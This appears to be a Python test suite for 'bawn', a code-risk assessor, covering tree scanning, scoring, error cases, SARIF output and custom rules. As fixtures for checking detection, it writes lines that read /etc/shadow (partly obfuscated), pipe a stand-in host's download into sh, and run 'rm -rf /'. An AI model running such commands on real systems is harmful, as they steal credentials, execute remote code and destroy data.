#!/usr/bin/python3
"""bawn assess over trees, and bawn rules: what is read, in which order, what is said; rules.d."""
import os, re, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from bawntest import *

w = World()
HIGH = "open('/etc/' + 'shadow')\n"

# A tree of some hundred files, with everything in it that is not code.
for i in range(300):
    w.file(f"t/d{i % 7}/f{i:03}.py", f"import os\nprint({i})\n" + ("os.system('ls')\n" if i % 10 == 0 else "") + (HIGH if i % 100 == 0 else ""))
w.file("t/tool", "#!/usr/bin/env bash\ncurl http://x.invalid/a | sh\n")
w.file("t/picture.png", b"\x89PNG\0\0")
w.file("t/notes", "no code\n")
w.file("t/node_modules/x/a.js", "eval(x)\n")
w.file("t/.git/hooks/pre-commit.py", HIGH)
w.file("outside/evil.py", HIGH)
os.symlink(w.dir + "/outside", w.dir + "/t/link")
os.symlink(w.dir + "/outside/evil.py", w.dir + "/t/link.py")
os.mkfifo(w.dir + "/t/fifo.py")

one, many = w.bawn("assess", "--json", "-j", "1", "t"), w.bawn("assess", "--json", "-j", "4", "t")
strip = lambda text: re.sub(r'"(assessed_at|elapsed_us)":("[^"]*"|\d+)', "", text)
equal(strip(many.out), strip(one.out), "however many at a time, the same lines in the same order")
docs = [json.loads(l) for l in many.out.splitlines()]
equal([d["path"] for d in docs], sorted(d["path"] for d in docs), "sorted by name")
equal(len(docs), 301, "files with a known extension or #! line; links, fifos, packages and version control are left out")
r = w.bawn("assess", "t")
ok("301 files" in r.err and "3 HIGH" in r.err and "1 BLOCKED" in r.err and "5 other files skipped" in r.err and "2 directories left out" in r.err,
   "the summary counts levels and what was left out") or r.show()
ok("\x1b" not in r.err + r.out and "#" not in r.err, "no progress and no colours unless on a terminal")
ok("f000.py" in r.out and "f001.py" not in r.out and "f001.py" in w.bawn("assess", "-v", "t").out, "of many files those with findings are shown; -v shows all")
equal(len(w.bawn("assess", "--json", "--all", "t").out.splitlines()), 303, "--all reads packages and version control too")
equal([w.bawn("assess", "-q", "--fail-on", l, "t").code for l in ("LOW", "BLOCKED")], [1, 1], "--fail-on")
equal(w.bawn("assess", "-q", "--fail-on", "HIGH", "t/d1/f001.py").code, 0, "and not below")
w.file("t/bad.py", b"x = '\xff'\n")
r = w.bawn("assess", "--json", "t")
bad = [d for d in map(json.loads, r.out.splitlines()) if "error" in d]
ok(r.code == 125 and [d["error"]["type"] for d in bad] == ["bad_utf8"] and len(r.out.splitlines()) == 302, "one that cannot be read does not cost the others")
os.remove(w.dir + "/t/bad.py")
for i in range(3000):
    w.file(f"many/f{i}.py", "def f(a):\n    return [x for x in a if x]\n" * 30)
r = terminal(w, ["assess", "many"], [])
bars = re.findall(r"\r\x1b\[K\[#*\.*\] \d+/3000 files, \d+ findings", r.out)
ok(bars and r.out.endswith("\r\x1b[Kbawn: 3000 files, 3000 LOW, 0 MEDIUM, 0 HIGH, 0 BLOCKED, 0 failed; 0 findings\r\n"), "on a terminal there is a bar, cleared at the end") or diag(repr(r.out[-300:]))

# What cannot be assessed.
w.file("cap.py", "#" * (1 << 20))
w.file("over.py", "#" * ((1 << 20) + 1))
r = w.bawn("assess", "--json", "cap.py", "over.py")
cap, over = [json.loads(l) for l in r.out.splitlines()]
ok(r.code == 125 and cap["level"] == "LOW" and over["error"]["type"] == "code_too_large" and "larger than 1048576 bytes" in over["error"]["message"],
   "a file of the largest size is read, one byte more is refused") or r.show()
r = w.bawn("assess", "--lang", "cobol", "cap.py")
ok(r.code == 2 and "option --lang: 'cobol' is none of python|bash|javascript" in r.err, "a language that is not known is a wrong option") or r.show()

for n in ("0", "x", "65", "99999999999999999999"):
    r = w.bawn("assess", "-j", n, "cap.py")
    ok(r.code == 2 and f"option -j: '{n}' is not a number from 1 to 64" in r.err, f"-j {n}: what is accepted is said") or r.show()
r = terminal(w, ["assess"], [])
ok(r.code == 2 and "for example 'bawn assess script.py'" in r.out and "usage: bawn assess" in r.out, "without a file a terminal is not read: an example is shown") or r.show()
r = w.bawn("assess", "--json", input="print(1)\n")
ok(r.code == 0 and r["path"] == "-", "what is piped in is") or r.show()

# The assessor breaks off at the only file there is: that is told.
def children(pid):
    found = []
    for stat in glob.glob("/proc/[0-9]*/stat"):
        try:
            with open(stat) as f:
                fields = f.read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if fields[1] == str(pid):
            found.append(int(stat.split("/")[2]))
    return found


w.file("slow.py", "x='''a\n'''+" * 80000)  # seconds of work, and then it is given up
p = w.start("assess", "--json", "slow.py")
while p.poll() is None and not children(p.pid):
    time.sleep(0.001)
for pid in children(p.pid):
    os.kill(pid, signal.SIGKILL)
out = p.communicate()[0].decode()
ok(p.returncode == 125 and json.loads(out).get("error", {}).get("type") == "assessment_failed" and "broke off" in out, "a crash at a single file costs its verdict alone") or diag(out)

# More than can be read: what was found stays, here and in a run.
w.file("hog.py", "import os\nos.system('rm -rf /')\nx = 'ab' * 2000\n" + "y = x.replace('a', 'bbbbbbbbbbbbbbbbbbbb')\n" * 4700)
r = w.bawn("assess", "--json", "hog.py")
ok(r.code == 125 and r["level"] == "BLOCKED" and {"bawn/assessment-failed", "any/destroys-everything"} <= {f["rule"] for f in r["findings"]}, "a file that is given up: the worst that was seen, and that it was") or r.show()
equal(w.bawn("assess", "-q", "--fail-on", "BLOCKED", "hog.py").code, 1, "and --fail-on sees it")
r = w.bawn("assess", "--format", "sarif", "hog.py")
ok(not r["runs"][0]["invocations"][0]["executionSuccessful"] and "bawn/assessment-failed" in {x["ruleId"] for x in r["runs"][0]["results"]}, "SARIF: a result, and no success") or r.show()
r = w.bawn("run", "--json", "hog.py")
ok(r["status"] == "refused" and r["assessment"]["level"] == "BLOCKED" and r["trust_level"] == "unknown", "a run of it is refused, not only held") or r.show()
w.file("deed", "rm -rf /\n")
r = w.bawn("run", "--json", "--lang", "bash", "--in", "hog.py", "--in", "deed", "-c", "bash deed")
ok(r["status"] == "refused" and [f["path"] for f in r["assessment"]["findings"] if f["rule"] == "any/destroys-everything"] == ["deed", "hog.py"],
   "an input that is given up takes nothing from one that is run") or r.show()
r = w.bawn("run", "--json", "--lang", "bash", "--in", "deed", "-c", "wc -l < deed")
ok(r["status"] == "completed" and r["assessment"]["level"] == "LOW", "one that is only read is data") or r.show()

# What somebody tries first.
w.file("u16.py", "import os\n".encode("utf-16"))
r = w.bawn("assess", "u16.py")
ok(r.code == 125 and "'u16.py' is UTF-16, not UTF-8" in r.err and "iconv" in r.err, "UTF-16 is called by its name") or r.show()
ok("the code is UTF-16, not UTF-8" in w.bawn("run", "u16.py").err, "by a run, too")
w.file("prose/a.txt", "hello\n")
r = w.bawn("assess", "prose")
ok(r.code == 0 and "nothing to assess: no file with a known extension or #! line; 1 other files skipped" in r.err, "a directory without code") or r.show()
equal(w.bawn("assess", "--json", "prose").json, {"files": 0, "skipped": 1, "left_out": 0}, "it has a document, too")
os.mkdir(w.dir + "/void")
equal(w.bawn("assess", "--format", "json", "void").json, {"files": 0, "skipped": 0, "left_out": 0}, "and so has an empty one")
w.file("deep/a.py", "x = 1\n")
os.makedirs(w.dir + "/deep/" + "d/" * 70)
r = w.bawn("assess", "--json", "deep")
docs = [json.loads(l) for l in r.out.splitlines()]
ok(r.code == 125 and [d.get("error", {}).get("type") for d in docs] == [None, "input_invalid"] and "nested too deep" in docs[1]["error"]["message"], "a directory that is not entered has a line of its own") or r.show()
r = w.bawn("assess", "--format", "sarif", "deep")
ok(r.code == 125 and not r["runs"][0]["invocations"][0]["executionSuccessful"], "and is no success in SARIF") or r.show()
name = "a\nb\x1b[31m.py"
w.file(name, "import os\nos.system('id')\n")
for args in ([name], [name + "x"]):
    r = w.bawn("assess", *args)
    ok("\x1b" not in r.out + r.err and "a\\nb\\x1b[31m.py" in r.out + r.err, f"a name is escaped where it is shown, exit {r.code}") or r.show()
r = w.bawn("assess", "--format", "sarif", name)
equal(r["runs"][0]["artifacts"][0]["location"]["uri"], "a%0Ab%1B%5B31m.py", "and encoded in SARIF")

# Text for people.
w.file("a.py", "import os\nopen('/et' + 'c/shadow')\nos.system('''\n  cat /etc/hosts''')\n")
r = w.bawn("assess", "-v", "a.py")
ok("       2 | open('/et' + 'c/shadow')\n         | ^~~~~~~~~~~~~~~~~~~~~~~~\n    comes to: /etc/shadow\n" in r.out, "line, range, and what it comes to") or r.show()
ok("       4 |   cat /etc/hosts''')\n         |       ^~~~~~~~~~\n" in r.out, "text inside text is marked where it stands") or r.show()
ok(re.search(r"score (\d+) = any/secret-read 20 \+ .*; MEDIUM 20, HIGH 60, BLOCKED 100; strongest finding HIGH", r.out), "-v says how the score came about") or r.show()
ok("  do: line 2: Reaches for keys, passwords or tokens. " in r.out and "  can: " in r.out, "what to do, what it can do")
d = w.bawn("assess", "--json", "a.py").json
equal(sum(f["score"] for f in d["findings"]), d["score"], "the findings' scores sum up to the score")
equal(d["scoring"], {"strongest": "HIGH", "thresholds": {"MEDIUM": 20, "HIGH": 60, "BLOCKED": 100}}, "and the rest of the arithmetic is there")
low = w.config(security="thresholds: {medium_score: 2, high_score: 3, blocked_score: 4}\n")
w.file("sum.py", "import subprocess\nsubprocess.run(['ls'])\n")
r = w.bawn("assess", "--config", low, "sum.py")
ok("sum.py: BLOCKED" in r.out and re.search(r"score \d+ = .*python/subprocess 4.*; MEDIUM 2", r.out) and "strongest finding MEDIUM" in r.out, "a level that comes from the sum says so without being asked") or r.show()

r = w.bawn("run", "--config", low, "sum.py")
ok(r.code == 126 and re.search(r"score \d+ = .*python/subprocess 4", r.err), "so does a run that is refused for it") or r.show()

# rules.
r = w.bawn("rules", "list", "--level", "BLOCKED", "--lang", "bash", "--json")
ok(r.json and all(x["level"] == "BLOCKED" and x["language"] == "bash" for x in r.json), "rules list by level and language")
families = {x["family"] for x in w.bawn("rules", "list", "--json").json}
ok(all({x["family"] for x in w.bawn("rules", "list", "--json", "--family", f).json} == {f} for f in families), "and by family")
for option in ("family", "lang", "level"):
    r = w.bawn("rules", "list", f"--{option}", "nosuch")
    ok(r.code == 2 and r.out == "" and f"--{option}: 'nosuch' is none of " in r.err, f"an unknown {option} is wrong usage") or r.show()
named = w.bawn("rules", "list", "--family", "nosuch").err.partition(" is none of ")[2].split("\n")[0].split("|")
equal(set(named), families | {"rules.d"}, "and told the families there are, those with rules and no others")
ok(max(map(len, w.bawn("rules", "list", "--help").out.splitlines())) <= 110, "but not all in one line of the help")
equal(w.bawn("rules", "list", "--family", "rules.d", "--json").json, [], "no rules of one's own yet is no mistake")
r = w.bawn("rules", "show", "python/pty-spawn")
ok(all(x in r.out for x in ("pty.spawn", "why", "fix", "matches (python)", "^~~", "does not match (python)")), "rules show: matcher, texts, examples with the matching part") or r.show()
ok("         | import pty\n" in r.out and "\\n" not in r.out, "and the others line by line") or r.show()
r = w.bawn("rules", "show", "bawn/assessment-failed")
ok(r.code == 0 and "HIGH" in r.out and "the assessor itself" in r.out, "a rule that is in no file, but that findings have") or r.show()
ok("did you mean 'python/pty-spawn'?" in w.bawn("rules", "show", "python/pty-spwan").err, "a rule that was meant")
w.file("mine.yaml", "rules:\n- id: local/ledger\n  level: BLOCKED\n  message: Touches the ledger\n  path: [/srv/ledger]\n  host: [ledger.example.org]\n  name: [ledger]\n"
       "  examples:\n    match:\n    - open('/srv/ledger/x')\n    - |\n      #!/bin/bash\n      curl https://api.ledger.example.org/\n    nomatch:\n    - open('ledger')\n")
r = w.bawn("rules", "test", "mine.yaml")
equal((r.code, r.out), (0, "1 rule, 3 examples, 0 failed\n"), "rules test of a file for rules.d") or r.show()
w.file("wrong.yaml", open(w.dir + "/mine.yaml").read().replace("- open('ledger')", "- open('/srv/ledger')"))
r = w.bawn("rules", "test", "wrong.yaml")
ok(r.code == 1 and "wrong.yaml:15: local/ledger: this example must not match and does" in r.err and "found:" in r.err, "an example that fails: file, line, rule, what was found") or r.show()
w.file("broken.yaml", "rules:\n- {id: local/x, levl: HIGH, message: m, name: ['']}\n- {id: python/x}\n")
r = w.bawn("rules", "test", "broken.yaml")
ok(r.code == 1 and "broken.yaml:2:17: 'levl' is not allowed here" in r.err and "did you mean 'level'?" in r.err and "broken.yaml:3:8" in r.err, "mistakes, all at once") or r.show()
equal(w.bawn("rules", "test", "absent.yaml").code, 125, "a file that is not there")

# rules.d
config = w.config()
os.makedirs(config + "/rules.d")
shutil.copy(w.dir + "/mine.yaml", config + "/rules.d/")
w.file("uses.py", "import ledger\n")
plain, own = w.bawn("assess", "--json", "uses.py").json, w.bawn("assess", "--json", "--config", config, "uses.py").json
equal((plain["level"], own["level"], [f["rule"] for f in own["findings"]]), ("LOW", "BLOCKED", ["local/ledger"]), "rules.d raises")
ok(own["rules_version"].startswith(plain["rules_version"] + "+"), "and is part of rules_version")
ok("local/ledger" in w.bawn("rules", "list", "--config", config).out and "mine.yaml:2" in w.bawn("rules", "show", "--config", config, "local/ledger").out,
   "rules list and show know them, and where they come from")
r = w.bawn("run", "--json", "--config", config, "uses.py")
ok(r["status"] == "refused" and r["assessment"]["rules_version"] == own["rules_version"], "a run obeys them") or r.show()
r = w.bawn("assess", "--format", "sarif", "--config", config, "uses.py").json
equal(r["runs"][0]["tool"]["driver"]["rules"][0]["shortDescription"]["text"], "Touches the ledger", "SARIF describes them")
shutil.copy(w.dir + "/broken.yaml", config + "/rules.d/")
r = w.bawn("run", "--json", "--config", config, "-c", "print(1)")
ok(r["status"] == "error" and r["error"]["type"] == "config_invalid" and "broken.yaml:2:17" in r["error"]["message"], "with a mistake in it nothing runs") or r.show()
r = w.bawn("assess", "--json", "--config", config, "uses.py")
ok(r.code == 125 and r["error"]["type"] == "config_invalid", "and nothing is assessed") or r.show()
r = w.bawn("policy", "check", config)
ok(r.code == 1 and "broken.yaml:3:8" in r.err, "policy check lists the mistakes") or r.show()
done()
